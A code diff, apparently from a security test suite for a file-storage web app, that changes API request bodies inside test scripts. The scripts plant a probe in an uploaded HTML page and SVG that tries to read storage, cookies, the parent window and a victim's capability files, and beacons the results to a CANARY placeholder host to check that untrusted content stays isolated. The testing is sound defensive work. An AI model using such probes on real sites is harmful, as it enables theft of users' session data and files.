@@ -29,7 +29,7 @@ const tell = (what) => { navigator.sendBeacon?.("CANARY/" + what); fetch("CANARY
 tell("ran");
 try { tell("storage-" + sessionStorage.length + localStorage.length); } catch {}
 try { tell("above-" + parent.document.title + opener.location.hash); } catch {}
-fetch("/api/list", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ cap: "VICTIM", path: [] }) }).then((r) => r.text()).then((t) => tell("list-" + t.length));
+fetch("/api/list", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ where: { cap: "VICTIM", path: [] } }) }).then((r) => r.text()).then((t) => tell("list-" + t.length));
 fetch("/uri/VICTIM").then((r) => r.text()).then((t) => tell("cap-" + t.length));
 """
 PAGE = """<!doctype html><title>a letter</title><h1>READ ME</h1><script>SCRIPT</script><script src="/ui/app.js"></script><script src="CANARY/script"></script>
@@ -59,8 +59,8 @@ def store(page, config, canary):
         const { aliases } = await get("aliases");
         const cap = aliases.find((one) => one.name === "home").cap;
         const out = {};
-        for (const name of ["page.html", "picture.svg"]) out[name] = { cap: (await post("stat", { cap, path: [name] })).cap,
-            ticket: (await post("tickets", { cap, path: [name], as: "inline" })).url };
+        for (const name of ["page.html", "picture.svg"]) out[name] = { cap: (await post("stat", { where: { cap, path: [name] } })).cap,
+            ticket: (await post("tickets", { where: { cap, path: [name] }, as: "inline" })).url };
         return out;
     """)
 
@@ -77,7 +77,7 @@ def powerless(page, what, victim):
         return {
             origin: self.origin,
             session: await tried(() => sessionStorage.length), local: await tried(() => localStorage.length), cookie: await tried(() => document.cookie),
-            list: await tried(async () => (await fetch("/api/list", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ cap: args[0], path: [] }) })).status),
+            list: await tried(async () => (await fetch("/api/list", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ where: { cap: args[0], path: [] } }) })).status),
             cap: await tried(async () => (await fetch("/uri/" + args[0])).text()),
             health: await tried(async () => (await fetch("/healthz")).text()),
         };
